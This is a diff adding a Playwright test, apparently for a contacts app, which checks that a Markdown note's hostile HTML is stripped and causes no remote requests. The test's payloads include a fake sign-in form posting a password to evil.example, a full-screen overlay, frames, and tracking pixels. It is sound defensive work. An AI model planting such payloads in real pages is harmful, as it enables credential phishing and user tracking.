@@ -35,6 +35,38 @@ test('when a Markdown note holds a script tag and an event handler, then they re
   expect(await page.evaluate(() => (globalThis as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
 });
 
+test('when a note holds styles, a form, a frame or a remote image, then none of them reaches the page and the image is a link that loads nothing', async ({ page, account }) => {
+  const [id] = await createContacts(account, [{ name: 'Stella Style' }]);
+  await account.api('POST', `/contacts/${id}/notes`, {
+    content: [
+      'Kept **bold**',
+      '<style>body { display: none !important }</style>',
+      '<div style="position:fixed;inset:0;background:red;z-index:9999">Your session expired: sign in again</div>',
+      '<form action="https://evil.example/steal"><input name="password" type="password"><button>Sign in</button></form>',
+      '<iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/x"></object>',
+      '![pixel](https://tracker.example/pixel.gif) <img src="https://tracker.example/raw.gif" alt="raw">',
+      '- [x] done task',
+    ].join('\n\n'),
+  });
+  const remote: string[] = [];
+  page.on('request', (request) => {
+    if (/evil\.example|tracker\.example/.test(request.url())) remote.push(request.url());
+  });
+  await signIn(page, account);
+  await page.getByRole('link', { name: 'Stella Style' }).click();
+  const note = page.getByTestId('note');
+  await expect(note.locator('strong')).toHaveText('bold');
+  await expect(page.locator('body')).toBeVisible();
+  // The note's own text only (its Edit and Delete buttons sit beside it).
+  await expect(note.locator('.markdown').locator('style, [style], form, input, button, iframe, object, img')).toHaveCount(0);
+  await expect(note).toContainText('Your session expired');
+  await expect(note.getByRole('link', { name: 'Image: pixel' })).toHaveAttribute('href', 'https://tracker.example/pixel.gif');
+  await expect(note.getByRole('link', { name: 'Image: raw' })).toHaveAttribute('rel', /noopener/);
+  await expect(note).toContainText('☑ done task');
+  await page.waitForTimeout(300);
+  expect(remote).toEqual([]);
+});
+
 test('when a field is edited in place with a bad value, then the API error shows at the field, and a good value is saved', async ({ page, account }) => {
   const [id] = await createContacts(account, [{ name: 'Eve Edit', email: 'eve@example.com' }]);
   await signIn(page, account);
